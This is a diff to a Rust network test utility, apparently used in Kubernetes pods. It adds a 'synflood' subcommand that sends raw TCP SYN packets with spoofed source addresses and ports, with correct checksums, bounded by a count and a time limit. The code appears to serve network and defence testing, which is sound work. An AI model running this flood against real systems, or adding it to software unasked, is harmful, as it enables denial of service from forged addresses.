@@ -44,6 +44,10 @@
 //!                                           (any, through a raw socket: what CAP_NET_RAW allows a pod)
 //!   krt-netprobe sniff tcp|udp PORT         prints the source address of every packet to PORT (raw
 //!                                           sockets, IPv4 and IPv6, before any socket lookup), forever
+//!   krt-netprobe synflood ADDR SRC_PREFIX COUNT SECONDS
+//!                                           COUNT raw TCP SYNs to ADDR (IPv4) from random addresses
+//!                                           SRC_PREFIX.2-254 and random ports, stopping after SECONDS;
+//!                                           prints "SENT MILLIS"
 use std::{
     io::{BufRead, BufReader, Read, Write},
     net::{SocketAddr, TcpListener, TcpStream, UdpSocket},
@@ -396,8 +400,11 @@ fn os_error(what: &str) -> std::io::Error {
     std::io::Error::new(e.kind(), format!("{what}: {e}"))
 }
 
-fn ipv4_checksum(header: &[u8]) -> u16 {
-    let mut sum: u32 = header.chunks(2).map(|w| u32::from(u16::from_be_bytes([w[0], w[1]]))).sum();
+/// The one's complement sum of `data` folded to 16 bits (RFC 1071), starting from `sum`.
+fn checksum(data: &[u8], mut sum: u32) -> u16 {
+    for pair in data.chunks(2) {
+        sum += u32::from(u16::from_be_bytes([pair[0], *pair.get(1).unwrap_or(&0)]));
+    }
     while sum > 0xffff {
         sum = (sum & 0xffff) + (sum >> 16);
     }
@@ -519,7 +526,7 @@ fn send_raw_frames(args: &[String]) -> std::io::Result<()> {
         ip[2..4].copy_from_slice(&total.to_be_bytes());
         ip.extend_from_slice(&src.octets());
         ip.extend_from_slice(&dst.octets());
-        let sum = ipv4_checksum(&ip);
+        let sum = checksum(&ip, 0);
         ip[10..12].copy_from_slice(&sum.to_be_bytes());
         frame.extend(ip);
     }
@@ -569,6 +576,75 @@ fn count_marked(fd: i32, seconds: f64) -> usize {
         }
     }
     count
+}
+
+/// Raw TCP SYNs from spoofed sources (an attacker's flood): bounded by `count` and `limit`.
+/// Returns how many were sent and the milliseconds it took.
+fn syn_flood(dst: std::net::SocketAddrV4, src_prefix: [u8; 3], count: u64, limit: Duration) -> (u64, u128) {
+    // SAFETY: plain socket syscalls on a descriptor we own.
+    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
+    assert!(fd >= 0, "raw socket: {}", std::io::Error::last_os_error());
+    let to = libc::sockaddr_in {
+        sin_family: libc::AF_INET as libc::sa_family_t,
+        sin_port: 0,
+        sin_addr: libc::in_addr { s_addr: u32::from_ne_bytes(dst.ip().octets()) },
+        sin_zero: [0; 8],
+    };
+    // xorshift: fast, and reproducible enough for a flood.
+    let mut state = 0x9e37_79b9_7f4a_7c15u64 ^ u64::from(std::process::id());
+    let mut random = move || {
+        state ^= state << 13;
+        state ^= state >> 7;
+        state ^= state << 17;
+        state
+    };
+    let started = Instant::now();
+    let mut sent = 0;
+    while sent < count && started.elapsed() < limit {
+        let r = random();
+        let src = [src_prefix[0], src_prefix[1], src_prefix[2], 2 + (r % 253) as u8];
+        let sport = 1024 + ((r >> 8) % 64_000) as u16;
+        let mut packet = [0u8; 40];
+        packet[0] = 0x45;
+        packet[2..4].copy_from_slice(&40u16.to_be_bytes());
+        packet[8] = 64;
+        packet[9] = libc::IPPROTO_TCP as u8;
+        packet[12..16].copy_from_slice(&src);
+        packet[16..20].copy_from_slice(&dst.ip().octets());
+        let ip_sum = checksum(&packet[..20], 0);
+        packet[10..12].copy_from_slice(&ip_sum.to_be_bytes());
+        let tcp = &mut packet[20..];
+        tcp[0..2].copy_from_slice(&sport.to_be_bytes());
+        tcp[2..4].copy_from_slice(&dst.port().to_be_bytes());
+        tcp[4..8].copy_from_slice(&((r >> 24) as u32).to_be_bytes());
+        tcp[12] = 5 << 4;
+        tcp[13] = 0x02; // SYN
+        tcp[14..16].copy_from_slice(&64240u16.to_be_bytes());
+        let mut pseudo = Vec::with_capacity(12);
+        pseudo.extend_from_slice(&src);
+        pseudo.extend_from_slice(&dst.ip().octets());
+        pseudo.extend_from_slice(&[0, libc::IPPROTO_TCP as u8, 0, 20]);
+        let pseudo_sum = pseudo.chunks(2).map(|p| u32::from(u16::from_be_bytes([p[0], p[1]]))).sum();
+        let tcp_sum = checksum(tcp, pseudo_sum);
+        tcp[16..18].copy_from_slice(&tcp_sum.to_be_bytes());
+        // SAFETY: a valid buffer and address of the sizes given.
+        let n = unsafe {
+            libc::sendto(
+                fd,
+                packet.as_ptr().cast(),
+                packet.len(),
+                0,
+                (&to as *const libc::sockaddr_in).cast(),
+                size_of::<libc::sockaddr_in>() as libc::socklen_t,
+            )
+        };
+        if n == packet.len() as isize {
+            sent += 1;
+        }
+    }
+    // SAFETY: our descriptor, closed once.
+    unsafe { libc::close(fd) };
+    (sent, started.elapsed().as_millis())
 }
 
 fn main() {
@@ -707,6 +783,16 @@ fn main() {
             let ether_type = u16::from_str_radix(&arg(2), 16).expect("ethertype (hex)");
             let (fd, _) = packet_socket(&arg(1), ether_type).unwrap_or_else(|e| panic!("count-frames: {e}"));
             println!("count {}", count_marked(fd, arg(3).parse().expect("seconds")));
+        }
+        "synflood" => {
+            let prefix: Vec<u8> = arg(2).split('.').map(|o| o.parse().expect("prefix octet")).collect();
+            let (sent, millis) = syn_flood(
+                arg(1).parse().expect("IPv4 addr:port"),
+                [prefix[0], prefix[1], prefix[2]],
+                arg(3).parse().expect("count"),
+                Duration::from_secs_f64(arg(4).parse().expect("seconds")),
+            );
+            println!("{sent} {millis}");
         }
         other => panic!("unknown command {other}"),
     }
